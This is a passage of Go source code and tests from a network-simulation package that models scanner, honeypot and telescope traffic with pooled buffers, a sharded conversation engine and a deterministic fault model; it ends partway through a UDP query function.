	b.Run("coro/shards=8", func(b *testing.B) {
		benchConversationEngine(b, echoBlockingHandler{}, 8)
	})
}
