package netsim

import (
	"bufio"
	"io"
	"sync"
)

// Pooled buffered readers and scratch buffers for protocol dialogues.
//
// The discrete-event engine runs tens of thousands of short conversations
// per campaign day; a fresh 4 KiB bufio.Reader (or raw scratch slice) per
// client call was the single largest allocation source in the replay hot
// path. Callers bracket use with Get/Put: a put-back reader drops any
// buffered-but-unread bytes, which matches the discard semantics of the
// throwaway readers these pools replace — every call site previously
// abandoned its reader (and the bytes it had slurped) at the same point.

var readerPool = sync.Pool{
	New: func() any { return bufio.NewReaderSize(nil, 4096) },
}

// GetReader returns a pooled 4 KiB buffered reader positioned on r.
func GetReader(r io.Reader) *bufio.Reader {
	br := readerPool.Get().(*bufio.Reader)
	br.Reset(r)
	return br
}

// PutReader recycles a reader obtained from GetReader, discarding anything
// it still buffers. The caller must not use br afterwards.
func PutReader(br *bufio.Reader) {
	br.Reset(nil)
	readerPool.Put(br)
}

var writerPool = sync.Pool{
	New: func() any { return bufio.NewWriterSize(nil, 4096) },
}

// GetWriter returns a pooled 4 KiB buffered writer targeting w.
func GetWriter(w io.Writer) *bufio.Writer {
	bw := writerPool.Get().(*bufio.Writer)
	bw.Reset(w)
	return bw
}

// PutWriter recycles a writer obtained from GetWriter, discarding anything
// unflushed — the same loss the throwaway writers it replaces had when
// abandoned. The caller must not use bw afterwards.
func PutWriter(bw *bufio.Writer) {
	bw.Reset(nil)
	writerPool.Put(bw)
}

var scratchPool = sync.Pool{
	New: func() any {
		b := make([]byte, 4096)
		return &b
	},
}

// GetScratch returns a pooled scratch byte slice with len == cap ≥ 4 KiB.
// Callers that grow it with append may store the grown slice back through
// the pointer before PutScratch so the capacity is retained.
func GetScratch() *[]byte {
	return scratchPool.Get().(*[]byte)
}

// PutScratch recycles a scratch slice obtained from GetScratch. The caller
// must not retain aliases into the slice afterwards. Length is restored to
// capacity so the len == cap invariant of GetScratch holds for the next
// user regardless of how the previous one sliced it.
func PutScratch(b *[]byte) {
	*b = (*b)[:cap(*b)]
	scratchPool.Put(b)
}
