package netsim

// engine.go is the sharded run-queue front end of the conversation engine.
//
// A ConvEngine owns N shards, each a single goroutine draining a FIFO job
// queue. Jobs are routed by a hash of the (src, dst) conversation pair, so
// all traffic between one attacker and one honeypot lands on one shard in
// submission order — per-(src,dst) FIFO is exactly the ordering the
// honeypots' keyed state (flood counters bucketed by (proto, src, day))
// depends on, which is why campaign output is byte-identical at any shard
// count. Each shard also owns an arena of recycled conversation objects;
// because a shard is single-threaded, the arena needs no lock.
//
// Dials made inside a shard job find the shard's arena through the job
// context; dials made anywhere else (the scan leg's own worker pool, tests)
// fall back to a global sync.Pool. Either way the blocking Dial API is
// unchanged — the engine is a scheduler around it, not a new dial surface.

import (
	"context"
	"sync"
	"sync/atomic"
)

// shardCtxKey carries the owning shard through a job's context into Dial.
type shardCtxKey struct{}

type shardJob struct {
	ctx context.Context
	fn  func(ctx context.Context)
}

// convShard is one single-threaded lane of the engine: a job queue plus a
// lock-free arena of recycled conversations. free is touched only by the
// shard goroutine (conversations are acquired and released inside jobs).
type convShard struct {
	queue chan shardJob
	free  []*conv
	// ctxCache memoizes the shard-tagged wrapper for the most recent parent
	// context: a campaign submits thousands of jobs under one context, and
	// re-wrapping each one was measurable allocation churn.
	ctxCache atomic.Pointer[shardCtxPair]
}

// shardCtxPair is one memoized (parent, shard-tagged wrapper) association.
type shardCtxPair struct {
	parent  context.Context
	wrapped context.Context
}

func (sh *convShard) getConv() *conv {
	if n := len(sh.free); n > 0 {
		cv := sh.free[n-1]
		sh.free = sh.free[:n-1]
		return cv
	}
	return &conv{}
}

func (sh *convShard) putConv(cv *conv) { sh.free = append(sh.free, cv) }

// ConvEngine executes conversation jobs on hash-of-(src,dst) shards.
type ConvEngine struct {
	shards []*convShard
	jobWG  sync.WaitGroup // submitted-but-unfinished jobs, for Drain
	wg     sync.WaitGroup // shard goroutines, for Close
}

// NewConvEngine starts an engine with the given number of shards (minimum 1).
func NewConvEngine(shards int) *ConvEngine {
	if shards < 1 {
		shards = 1
	}
	e := &ConvEngine{shards: make([]*convShard, shards)}
	for i := range e.shards {
		sh := &convShard{queue: make(chan shardJob, 64)}
		e.shards[i] = sh
		e.wg.Add(1)
		go func() {
			defer e.wg.Done()
			for job := range sh.queue {
				job.fn(job.ctx)
				e.jobWG.Done()
			}
		}()
	}
	return e
}

// Shards reports the engine's shard count.
func (e *ConvEngine) Shards() int { return len(e.shards) }

// Submit enqueues fn on the shard owning the (src, dst) pair. It blocks only
// when that shard's queue is full. Returns false — and does not run fn — if
// ctx is cancelled before the job is accepted.
func (e *ConvEngine) Submit(ctx context.Context, src, dst IPv4, fn func(ctx context.Context)) bool {
	h := (uint64(src)<<32 | uint64(dst)) * 0x9e3779b97f4a7c15
	sh := e.shards[(h^(h>>32))%uint64(len(e.shards))]
	e.jobWG.Add(1)
	var jctx context.Context
	if c := sh.ctxCache.Load(); c != nil && c.parent == ctx {
		jctx = c.wrapped
	} else {
		jctx = context.WithValue(ctx, shardCtxKey{}, sh)
		sh.ctxCache.Store(&shardCtxPair{parent: ctx, wrapped: jctx})
	}
	select {
	case sh.queue <- shardJob{ctx: jctx, fn: fn}:
		return true
	case <-ctx.Done():
		e.jobWG.Done()
		return false
	}
}

// Drain blocks until every job accepted so far has finished. Unlike Close it
// leaves the shards running, so it can fence day boundaries mid-campaign.
func (e *ConvEngine) Drain() { e.jobWG.Wait() }

// Close drains and stops the shard goroutines. Submit must not be called
// after (or concurrently with) Close.
func (e *ConvEngine) Close() {
	for _, sh := range e.shards {
		close(sh.queue)
	}
	e.wg.Wait()
}
