package netsim

import (
	"sync"
	"testing"
)

// TestProviderEqualPrefixTieBreak pins the documented tie-break for
// overlapping registrations of equal length: the later registration wins,
// and a later registration whose provider returns nil falls through to the
// earlier one rather than shadowing it.
func TestProviderEqualPrefixTieBreak(t *testing.T) {
	type namedHost struct {
		testHost
		name string
	}
	prefix := MustParsePrefix("10.0.0.0/16")
	ip := MustParseIPv4("10.0.1.2")

	n := NewNetwork(nil)
	n.AddProvider(prefix, HostProviderFunc(func(IPv4) Host { return namedHost{name: "first"} }))
	n.AddProvider(prefix, HostProviderFunc(func(IPv4) Host { return namedHost{name: "second"} }))
	if got := n.lookupHost(ip).(namedHost).name; got != "second" {
		t.Fatalf("equal-length tie: got %q, want later registration %q", got, "second")
	}

	// A later registration that answers nil does not shadow the earlier one.
	n2 := NewNetwork(nil)
	n2.AddProvider(prefix, HostProviderFunc(func(IPv4) Host { return namedHost{name: "first"} }))
	n2.AddProvider(prefix, HostProviderFunc(func(IPv4) Host { return nil }))
	if h := n2.lookupHost(ip); h == nil || h.(namedHost).name != "first" {
		t.Fatalf("nil later registration must fall through to the earlier one, got %v", h)
	}
}

// TestProviderPrecedenceOverlapping pins the full precedence order across
// overlapping registrations of different lengths mixed with equal-length
// duplicates: most-specific wins, ties go to the later registration.
func TestProviderPrecedenceOverlapping(t *testing.T) {
	type namedHost struct {
		testHost
		name string
	}
	named := func(name string) HostProvider {
		return HostProviderFunc(func(IPv4) Host { return namedHost{name: name} })
	}
	n := NewNetwork(nil)
	n.AddProvider(MustParsePrefix("10.0.0.0/8"), named("wide"))
	n.AddProvider(MustParsePrefix("10.1.0.0/16"), named("mid-a"))
	n.AddProvider(MustParsePrefix("10.1.2.0/24"), named("narrow"))
	n.AddProvider(MustParsePrefix("10.1.0.0/16"), named("mid-b")) // duplicate /16, later wins

	cases := map[string]string{
		"10.1.2.3": "narrow", // longest prefix wins over both /16s and the /8
		"10.1.9.9": "mid-b",  // equal-length duplicate: later registration
		"10.9.9.9": "wide",   // only the /8 covers it
	}
	for addr, want := range cases {
		h := n.lookupHost(MustParseIPv4(addr))
		if got := h.(namedHost).name; got != want {
			t.Errorf("lookupHost(%s) = %q, want %q", addr, got, want)
		}
	}
	if h := n.lookupHost(MustParseIPv4("11.0.0.1")); h != nil {
		t.Fatalf("uncovered address resolved to %v", h)
	}
}

// TestSnapshotVisibleAfterRegistration checks copy-on-write registrations
// become visible to traffic issued afterwards.
func TestSnapshotVisibleAfterRegistration(t *testing.T) {
	n := NewNetwork(nil)
	dst := Endpoint{IP: MustParseIPv4("44.1.2.3"), Port: 23}
	var (
		mu   sync.Mutex
		seen int
	)

	// Before any observer: emit must be a no-op.
	n.SynProbe(Endpoint{IP: 1, Port: 1}, dst, ProbeOptions{})

	n.AddObserver(MustParsePrefix("44.0.0.0/8"), ObserverFunc(func(ProbeEvent) {
		mu.Lock()
		seen++
		mu.Unlock()
	}))
	n.SynProbe(Endpoint{IP: 1, Port: 1}, dst, ProbeOptions{})
	mu.Lock()
	defer mu.Unlock()
	if seen != 1 {
		t.Fatalf("observer saw %d events, want 1 (only post-registration traffic)", seen)
	}
}

// TestObserverShortPrefix exercises the top-octet pre-check with an
// observer prefix shorter than /8, which spans multiple top octets.
func TestObserverShortPrefix(t *testing.T) {
	n := NewNetwork(nil)
	var (
		mu   sync.Mutex
		seen []IPv4
	)
	n.AddObserver(MustParsePrefix("44.0.0.0/6"), ObserverFunc(func(ev ProbeEvent) {
		mu.Lock()
		seen = append(seen, ev.Dst.IP)
		mu.Unlock()
	}))
	src := Endpoint{IP: 1, Port: 1}
	for _, addr := range []string{"44.0.0.1", "45.1.1.1", "47.255.255.255", "48.0.0.1", "43.255.255.255"} {
		n.SynProbe(src, Endpoint{IP: MustParseIPv4(addr), Port: 23}, ProbeOptions{})
	}
	mu.Lock()
	defer mu.Unlock()
	if len(seen) != 3 {
		t.Fatalf("observer saw %d events, want 3 (44..47 covered, 43 and 48 not): %v", len(seen), seen)
	}
}

// TestConcurrentRegistrationAndLookup races copy-on-write registrations
// against the lock-free read path (meaningful under -race).
func TestConcurrentRegistrationAndLookup(t *testing.T) {
	n := NewNetwork(nil)
	n.AddProvider(MustParsePrefix("10.0.0.0/8"), HostProviderFunc(func(IPv4) Host { return testHost{} }))
	n.AddObserver(MustParsePrefix("44.0.0.0/8"), ObserverFunc(func(ProbeEvent) {}))

	var wg sync.WaitGroup
	stop := make(chan struct{})
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				n.lookupHost(IPv4(uint32(10)<<24 | uint32(w)<<16 | uint32(i)))
				n.emit(ProbeEvent{Dst: Endpoint{IP: MustParseIPv4("44.0.0.1"), Port: 23}})
			}
		}(w)
	}
	for i := 0; i < 32; i++ {
		n.AddProvider(NewPrefix(IPv4(uint32(10)<<24|uint32(i)<<16), 16),
			HostProviderFunc(func(IPv4) Host { return nil }))
		n.AddObserver(NewPrefix(IPv4(uint32(44)<<24|uint32(i)<<16), 16),
			ObserverFunc(func(ProbeEvent) {}))
	}
	close(stop)
	wg.Wait()

	if h := n.lookupHost(MustParseIPv4("10.31.0.1")); h == nil {
		t.Fatal("nil carve-out must fall through to the wide provider")
	}
}

// TestPrefixSetOverlaps covers the disjointness pre-check used by the scan
// feed path.
func TestPrefixSetOverlaps(t *testing.T) {
	s := NewPrefixSet(MustParsePrefix("192.168.0.0/16"), MustParsePrefix("10.0.0.0/8"))
	cases := []struct {
		prefix string
		want   bool
	}{
		{"192.168.1.0/24", true}, // inside a set prefix
		{"192.0.0.0/8", true},    // contains a set prefix
		{"10.0.0.0/8", true},     // exact
		{"50.0.0.0/16", false},
		{"0.0.0.0/0", true}, // contains everything
	}
	for _, c := range cases {
		if got := s.Overlaps(MustParsePrefix(c.prefix)); got != c.want {
			t.Errorf("Overlaps(%s) = %v, want %v", c.prefix, got, c.want)
		}
	}
	if (&PrefixSet{}).Overlaps(MustParsePrefix("0.0.0.0/0")) {
		t.Error("empty set overlaps nothing")
	}
}
