package netsim

import (
	"context"
	"fmt"
	"net"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// StreamHandler serves one TCP-like connection on a simulated host. Serve
// must return when the conversation is over; the framework closes the conn.
type StreamHandler interface {
	Serve(ctx context.Context, conn *ServiceConn)
}

// StreamHandlerFunc adapts a function to a StreamHandler.
type StreamHandlerFunc func(ctx context.Context, conn *ServiceConn)

// Serve calls f.
func (f StreamHandlerFunc) Serve(ctx context.Context, conn *ServiceConn) { f(ctx, conn) }

// DatagramHandler answers one UDP-like query on a simulated host.
// A nil response means the datagram is dropped (no reply), matching a
// service that silently ignores malformed probes.
type DatagramHandler interface {
	HandleDatagram(from Endpoint, payload []byte) []byte
}

// DatagramHandlerFunc adapts a function to a DatagramHandler.
type DatagramHandlerFunc func(from Endpoint, payload []byte) []byte

// HandleDatagram calls f.
func (f DatagramHandlerFunc) HandleDatagram(from Endpoint, payload []byte) []byte {
	return f(from, payload)
}

// ServiceConn is the connection type handed to stream handlers and returned
// by Dial. It wraps the transport endpoint (an engine conversation endpoint,
// or a pipe conn for NewServiceConnPair test fixtures) and carries the
// simulated timestamp of the dial, letting services log events in simulation
// time. ServiceConns are allocated per dial and never pooled, so the fault
// flags below remain readable after Close even though the conversation
// object underneath has been recycled.
type ServiceConn struct {
	net.Conn
	DialTime time.Time
	// RTT is the simulated round-trip latency the fault model assigned to
	// the dial (zero when no fault model is installed).
	RTT time.Duration

	faultTruncated atomic.Bool
	faultReset     atomic.Bool
}

// FaultTruncated reports whether the peer's stream was cut by a tarpit
// pathology: the bytes read so far are a genuine prefix of the banner, but
// the rest never arrived inside any read window.
func (c *ServiceConn) FaultTruncated() bool {
	if c.faultTruncated.Load() {
		return true
	}
	if lc, ok := c.Conn.(*conn); ok {
		return lc.faultTruncated.Load()
	}
	return false
}

// FaultReset reports whether the conversation was torn down mid-stream by an
// injected TCP RST.
func (c *ServiceConn) FaultReset() bool {
	if c.faultReset.Load() {
		return true
	}
	if lc, ok := c.Conn.(*conn); ok {
		return lc.faultReset.Load()
	}
	return false
}

// Abort tears the connection down in both directions, discarding buffers.
// It models a RST.
func (c *ServiceConn) Abort() {
	switch t := c.Conn.(type) {
	case *conn:
		t.Abort()
	case *convConn:
		t.abort()
	default:
		_ = c.Conn.Close()
	}
}

// Host describes a simulated machine: which ports answer, and how.
// Implementations must be safe for concurrent use; the lazily derived IoT
// population returns stateless value hosts, while honeypots are stateful.
type Host interface {
	// StreamService returns the handler for a TCP port, or nil if closed.
	StreamService(port uint16) StreamHandler
	// DatagramService returns the handler for a UDP port, or nil if closed.
	DatagramService(port uint16) DatagramHandler
}

// HostProvider resolves an address to a host. Returning nil means no machine
// exists there (the address is dark). Providers must be safe for concurrent
// use and SHOULD be cheap: the scanner calls Host for every probed address.
type HostProvider interface {
	Host(ip IPv4) Host
}

// HostProviderFunc adapts a function to a HostProvider.
type HostProviderFunc func(ip IPv4) Host

// Host calls f.
func (f HostProviderFunc) Host(ip IPv4) Host { return f(ip) }

// ProbeKind classifies a traffic event seen by observers.
type ProbeKind uint8

// Probe kinds reported to observers.
const (
	ProbeSYN     ProbeKind = iota // TCP connection attempt
	ProbeUDP                      // UDP datagram
	ProbeACK                      // TCP established (dial succeeded)
	ProbePayload                  // application payload bytes on a stream
)

// String names the probe kind.
func (k ProbeKind) String() string {
	switch k {
	case ProbeSYN:
		return "syn"
	case ProbeUDP:
		return "udp"
	case ProbeACK:
		return "ack"
	case ProbePayload:
		return "payload"
	default:
		return "probe"
	}
}

// ProbeEvent is the wire-level event surfaced to observers (the network
// telescope taps these for its covered prefix).
type ProbeEvent struct {
	Time      time.Time
	Src       Endpoint
	Dst       Endpoint
	Transport Transport
	Kind      ProbeKind
	Size      int // payload length in bytes
	TTL       uint8
	Spoofed   bool // source address was forged by the sender
	Masscan   bool // probe carries the masscan ip.id fingerprint
}

// Observer receives wire-level events. Observers must be fast and
// non-blocking; the telescope aggregates in-memory.
type Observer interface {
	Observe(ev ProbeEvent)
}

// ObserverFunc adapts a function to an Observer.
type ObserverFunc func(ev ProbeEvent)

// Observe calls f.
func (f ObserverFunc) Observe(ev ProbeEvent) { f(ev) }

// Stats counts traffic carried by the network.
type Stats struct {
	Dials       atomic.Uint64 // TCP dial attempts
	DialsOK     atomic.Uint64 // successful dials
	Refused     atomic.Uint64 // host present, port closed
	Unreachable atomic.Uint64 // no host at address
	Datagrams   atomic.Uint64 // UDP queries sent
	Responses   atomic.Uint64 // UDP responses returned
	Dropped     atomic.Uint64 // probes lost to the fault model (SYN or datagram)
}

// FaultPlan is the set of pathologies the fault model injects into one probe
// or flow. The zero value is a perfectly healthy network path.
type FaultPlan struct {
	// Latency is the simulated round trip. A reply slower than the sender's
	// ProbeOptions.Timeout is indistinguishable from loss and reported as a
	// timeout.
	Latency time.Duration
	// DropSYN loses a TCP SYN (or its SYN-ACK): the dial times out.
	DropSYN bool
	// DropDatagram loses a UDP probe or its response: silence.
	DropDatagram bool
	// HostDown marks the destination as flapped off the network: the address
	// is dark for the duration of the current churn epoch.
	HostDown bool
	// TruncateAfter, when > 0, tarpits the flow: the server's stream is cut
	// after that many bytes, as seen by a dialer that gave up on the drip.
	TruncateAfter int
	// ResetAfter, when > 0, resets the flow (TCP RST) after that many bytes,
	// discarding anything in flight.
	ResetAfter int
}

// FaultModel decides the pathologies applied to traffic. Implementations
// MUST be pure functions of (their seed, the arguments): the scan and attack
// legs rely on probe outcomes being independent of worker count and run
// order. Attempt is the sender's retransmission ordinal, giving every
// retransmit an independent draw.
type FaultModel interface {
	// PlanProbe decides the fate of one probe/flow.
	PlanProbe(src IPv4, dst Endpoint, transport Transport, attempt uint32, now time.Time) FaultPlan
	// Blackholed reports whether dst sits in a prefix that administratively
	// drops all of src's probes — the signal (ICMP admin-prohibited in the
	// real world) a scanner's circuit breaker keys on.
	Blackholed(src IPv4, dst IPv4) bool
}

// Network is the simulated Internet fabric. Hosts come from registered
// providers (checked most-specific first); traffic generates events for
// observers whose prefix covers the destination.
//
// The probe hot path (lookupHost, emit) is lock-free: registrations live in
// an immutable snapshot behind an atomic pointer, rebuilt copy-on-write by
// AddProvider/AddObserver. Readers pay one atomic load per probe and never
// contend with each other or with writers.
type Network struct {
	writeMu sync.Mutex // serializes copy-on-write snapshot rebuilds
	state   atomic.Pointer[netState]
	clock   Clock

	// DefaultTTL is the IP TTL attached to generated probe events when the
	// sender does not specify one.
	DefaultTTL uint8

	// handlers tracks in-flight conversation server parties so Quiesce can
	// wait for the server side of every conversation to finish.
	handlers sync.WaitGroup

	// quiescing flags an in-progress Quiesce so a racing Dial — always a
	// caller bug — fails loudly instead of landing its tail late.
	quiescing atomic.Bool

	// faults, when non-nil, injects deterministic network pathologies into
	// every probe. Behind an atomic pointer so installing a model does not
	// race with in-flight traffic; the nil fast path costs one atomic load.
	faults atomic.Pointer[faultsHolder]

	stats Stats
}

// faultsHolder boxes the FaultModel interface for atomic.Pointer.
type faultsHolder struct{ model FaultModel }

// SetFaults installs (or, with nil, removes) the network's fault model.
func (n *Network) SetFaults(m FaultModel) {
	if m == nil {
		n.faults.Store(nil)
		return
	}
	n.faults.Store(&faultsHolder{model: m})
}

// Faults returns the installed fault model, or nil for a perfect network.
func (n *Network) Faults() FaultModel {
	if h := n.faults.Load(); h != nil {
		return h.model
	}
	return nil
}

// PlanFor replays the installed fault model's decision for one probe at the
// current simulated time. FaultModel implementations are pure functions of
// (their seed, the arguments), so out-of-band consumers — the flight
// recorder annotates sampled probes with the latency and pathology the
// fabric injected — can read the plan without touching the probe path or
// perturbing the run. The second return is false on a perfect network.
func (n *Network) PlanFor(src IPv4, dst Endpoint, transport Transport, attempt uint32) (FaultPlan, bool) {
	fm := n.Faults()
	if fm == nil {
		return FaultPlan{}, false
	}
	return fm.PlanProbe(src, dst, transport, attempt, n.clock.Now()), true
}

// netState is one immutable snapshot of the network's registrations.
type netState struct {
	// providers is sorted most-specific (longest prefix) first; within
	// equal lengths, later registrations sort first. lookupHost takes the
	// first entry that yields a host, which reproduces the documented
	// precedence (most-specific wins, ties to the later registration,
	// nil hosts fall through to less-specific providers).
	providers []providerEntry
	observers []observerEntry
	// obsOctets marks, per destination top octet, whether any observer
	// prefix can cover an address with that octet. One load + mask decides
	// "no observer covers dst" without touching the observer list — the
	// overwhelming case when scanning outside the telescope range.
	obsOctets [4]uint64
}

type providerEntry struct {
	prefix   Prefix
	seq      int // registration order, for the equal-length tie-break
	provider HostProvider
}

type observerEntry struct {
	prefix   Prefix
	observer Observer
}

// NewNetwork returns an empty network fabric using the given clock.
func NewNetwork(clock Clock) *Network {
	if clock == nil {
		clock = WallClock{}
	}
	n := &Network{clock: clock, DefaultTTL: 64}
	n.state.Store(&netState{})
	return n
}

// Clock returns the network's time source.
func (n *Network) Clock() Clock { return n.clock }

// Stats returns the network's traffic counters.
func (n *Network) Stats() *Stats { return &n.stats }

// AddProvider registers a host provider for a prefix. When prefixes overlap,
// the most specific (longest) prefix wins; ties go to the later
// registration. A provider returning a nil host does not shadow
// less-specific providers — lookup falls through.
func (n *Network) AddProvider(prefix Prefix, p HostProvider) {
	n.writeMu.Lock()
	defer n.writeMu.Unlock()
	cur := n.state.Load()
	next := &netState{
		providers: make([]providerEntry, len(cur.providers), len(cur.providers)+1),
		observers: cur.observers,
		obsOctets: cur.obsOctets,
	}
	copy(next.providers, cur.providers)
	next.providers = append(next.providers, providerEntry{prefix: prefix, seq: len(cur.providers), provider: p})
	sort.SliceStable(next.providers, func(i, j int) bool {
		a, b := next.providers[i], next.providers[j]
		if a.prefix.Bits != b.prefix.Bits {
			return a.prefix.Bits > b.prefix.Bits // most specific first
		}
		return a.seq > b.seq // later registration first
	})
	n.state.Store(next)
}

// AddObserver registers an observer for traffic destined to a prefix.
func (n *Network) AddObserver(prefix Prefix, o Observer) {
	n.writeMu.Lock()
	defer n.writeMu.Unlock()
	cur := n.state.Load()
	next := &netState{
		providers: cur.providers,
		observers: make([]observerEntry, len(cur.observers), len(cur.observers)+1),
		obsOctets: cur.obsOctets,
	}
	copy(next.observers, cur.observers)
	next.observers = append(next.observers, observerEntry{prefix: prefix, observer: o})
	markOctets(&next.obsOctets, prefix)
	n.state.Store(next)
}

// markOctets sets the top-octet bits reachable through prefix.
func markOctets(bm *[4]uint64, p Prefix) {
	lo := uint32(p.First()) >> 24
	hi := uint32(p.Last()) >> 24
	for o := lo; o <= hi; o++ {
		bm[o>>6] |= 1 << (o & 63)
	}
}

// lookupHost resolves ip through the registered providers.
func (n *Network) lookupHost(ip IPv4) Host {
	st := n.state.Load()
	if st == nil {
		return nil
	}
	for _, e := range st.providers {
		if e.prefix.Contains(ip) {
			if h := e.provider.Host(ip); h != nil {
				return h
			}
		}
	}
	return nil
}

// emit delivers an event to every observer covering the destination.
func (n *Network) emit(ev ProbeEvent) {
	st := n.state.Load()
	if st == nil {
		return
	}
	o := uint32(ev.Dst.IP) >> 24
	if st.obsOctets[o>>6]&(1<<(o&63)) == 0 {
		return // no observer can cover dst: free on a dark Internet
	}
	for _, e := range st.observers {
		if e.prefix.Contains(ev.Dst.IP) {
			e.observer.Observe(ev)
		}
	}
}

// ProbeOptions let senders control the wire-level fingerprint of their
// traffic (the telescope records TTLs and the masscan ip.id quirk).
type ProbeOptions struct {
	TTL     uint8
	Spoofed bool
	Masscan bool
	// Attempt is the retransmission ordinal (0 = first transmission). Fault
	// draws derive from (dst, attempt), so each retransmit sees independent
	// loss and jitter regardless of worker scheduling.
	Attempt uint32
	// Timeout, when > 0, is the sender's patience in simulated time: a path
	// whose simulated latency exceeds it behaves as a lost probe. Zero means
	// the sender waits out any latency (only hard drops time out).
	Timeout time.Duration
}

// timedOut reports whether the plan's pathologies defeat this probe: an
// outright drop, or latency beyond the sender's patience.
func (o ProbeOptions) timedOut(plan FaultPlan, drop bool) bool {
	return drop || (o.Timeout > 0 && plan.Latency > o.Timeout)
}

// SynProbe performs a stateless TCP SYN probe: it reports whether a host at
// dst accepts connections on the port, without establishing one. This is the
// ZMap fast path — no connection state is created for the millions of
// unresponsive addresses.
func (n *Network) SynProbe(src Endpoint, dst Endpoint, opts ProbeOptions) bool {
	ttl := opts.TTL
	if ttl == 0 {
		ttl = n.DefaultTTL
	}
	n.emit(ProbeEvent{
		Time: n.clock.Now(), Src: src, Dst: dst, Transport: TCP, Kind: ProbeSYN,
		Size: 0, TTL: ttl, Spoofed: opts.Spoofed, Masscan: opts.Masscan,
	})
	if fm := n.Faults(); fm != nil {
		plan := fm.PlanProbe(src.IP, dst, TCP, opts.Attempt, n.clock.Now())
		if plan.HostDown || opts.timedOut(plan, plan.DropSYN) {
			return false
		}
	}
	h := n.lookupHost(dst.IP)
	if h == nil {
		return false
	}
	return h.StreamService(dst.Port) != nil
}

// Dial establishes a TCP-like connection from src to dst. The conversation
// runs on the discrete-event engine: the destination host's handler executes
// inline, resumed on this goroutine after the dial and after every client
// write or close, with no per-dial goroutine or channel churn. Handlers that
// implement StepProvider run as native state machines; others are
// multiplexed onto pooled coroutine workers. Either way the blocking client
// API is unchanged.
func (n *Network) Dial(ctx context.Context, src IPv4, dst Endpoint, opts ProbeOptions) (*ServiceConn, error) {
	if n.quiescing.Load() {
		panic(fmt.Sprintf("netsim: Dial(%v -> %v) raced Network.Quiesce: the caller must fence "+
			"all dialers (wait out its worker pool / engine Drain) before quiescing, or the tail "+
			"of in-flight conversations lands after the boundary the logs are bucketed by", src, dst))
	}
	n.stats.Dials.Add(1)
	now := n.clock.Now()
	ttl := opts.TTL
	if ttl == 0 {
		ttl = n.DefaultTTL
	}
	srcEP := Endpoint{IP: src, Port: ephemeralPort(src, dst)}
	n.emit(ProbeEvent{
		Time: now, Src: srcEP, Dst: dst, Transport: TCP, Kind: ProbeSYN,
		TTL: ttl, Spoofed: opts.Spoofed, Masscan: opts.Masscan,
	})
	var plan FaultPlan
	if fm := n.Faults(); fm != nil {
		plan = fm.PlanProbe(src, dst, TCP, opts.Attempt, now)
		if plan.HostDown {
			n.stats.Unreachable.Add(1)
			return nil, ErrHostUnreachable
		}
		if opts.timedOut(plan, plan.DropSYN) {
			n.stats.Dropped.Add(1)
			return nil, ErrProbeTimeout
		}
	}
	h := n.lookupHost(dst.IP)
	if h == nil {
		n.stats.Unreachable.Add(1)
		return nil, ErrHostUnreachable
	}
	handler := h.StreamService(dst.Port)
	if handler == nil {
		n.stats.Refused.Add(1)
		return nil, ErrConnRefused
	}
	n.stats.DialsOK.Add(1)
	n.emit(ProbeEvent{Time: now, Src: srcEP, Dst: dst, Transport: TCP, Kind: ProbeACK, TTL: ttl})

	// Acquire a recycled conversation: from the owning engine shard's arena
	// when dialing inside a shard job, else from the global pool.
	sh, _ := ctx.Value(shardCtxKey{}).(*convShard)
	var cv *conv
	if sh != nil {
		cv = sh.getConv()
	} else {
		cv = globalConvPool.Get().(*conv)
	}
	cv.n = n
	cv.owner = sh
	if plan.ResetAfter > 0 {
		cv.fault.active, cv.fault.reset, cv.fault.remaining = true, true, plan.ResetAfter
	} else if plan.TruncateAfter > 0 {
		cv.fault.active, cv.fault.remaining = true, plan.TruncateAfter
	}

	pair := &convPair{
		clientCC: convConn{cv: cv, gen: cv.gen, client: true, local: srcEP, remote: dst},
		serverCC: convConn{cv: cv, gen: cv.gen, client: false, local: dst, remote: srcEP},
	}
	client, server := &pair.clientSC, &pair.serverSC
	client.Conn, client.DialTime, client.RTT = &pair.clientCC, now, plan.Latency
	server.Conn, server.DialTime, server.RTT = &pair.serverCC, now, plan.Latency
	pair.clientCC.sc = client
	pair.serverCC.sc = server
	cv.clientSC = client

	n.handlers.Add(1)
	if sp, ok := handler.(StepProvider); ok {
		cv.party = newStepperParty(n, sp.NewStepper(), cv, server)
	} else {
		cv.party = newCoroParty(ctx, n, handler, server)
	}
	// Run the server's opening burst (negotiation, banner, first prompt) so
	// the client's first read finds it buffered.
	cv.runServer()
	return client, nil
}

// Quiesce blocks until every in-flight connection handler has returned.
// Closing the client side of a conversation does not mean the server has
// finished processing (and logging) it; callers that read observation logs —
// or advance the simulation clock past a time boundary the logs are bucketed
// by — must quiesce first or the tail of the conversation lands late. The
// caller must ensure no new Dials race with the wait: a racing Dial panics
// with a diagnostic rather than silently landing its conversation tail on
// the wrong side of the boundary.
func (n *Network) Quiesce() {
	n.quiescing.Store(true)
	n.handlers.Wait()
	n.quiescing.Store(false)
}

// QueryOutcome explains a silent Query. A real scanner can distinguish a
// closed port (ICMP port unreachable) from plain silence; the simulation
// additionally separates a service that ignored the probe from a datagram
// the fault model lost, because only the latter is worth retransmitting —
// stateless services answer a retransmit exactly as they answered the
// original.
type QueryOutcome uint8

// Query outcomes.
const (
	QueryAnswered QueryOutcome = iota // response returned
	QueryDark                         // no host at the address
	QueryClosed                       // host up, nothing listens on the port
	QueryIgnored                      // service saw the datagram, chose silence
	QueryDropped                      // lost to the fault model; retransmit may recover
)

// Query sends a UDP datagram from src to dst and returns the response, or
// nil if the destination does not answer (dark address, closed port, or the
// service dropped the probe).
func (n *Network) Query(src IPv4, dst Endpoint, payload []byte, opts ProbeOptions) []byte {
	resp, _ := n.QueryX(src, dst, payload, opts)
	return resp
}

// QueryX is Query plus the reason no response came back.
func (n *Network) QueryX(src IPv4, dst Endpoint, payload []byte, opts ProbeOptions) ([]byte, QueryOutcome) {
	n.stats.Datagrams.Add(1)
	now := n.clock.Now()
	ttl := opts.TTL
	if ttl == 0 {
		ttl = n.DefaultTTL
	}
	srcEP := Endpoint{IP: src, Port: ephemeralPort(src, dst)}
	n.emit(ProbeEvent{
		Time: now, Src: srcEP, Dst: dst, Transport: UDP, Kind: ProbeUDP,
		Size: len(payload), TTL: ttl, Spoofed: opts.Spoofed, Masscan: opts.Masscan,
	})
	if fm := n.Faults(); fm != nil {
		plan := fm.PlanProbe(src, dst, UDP, opts.Attempt, now)
		if plan.HostDown {
			return nil, QueryDark
		}
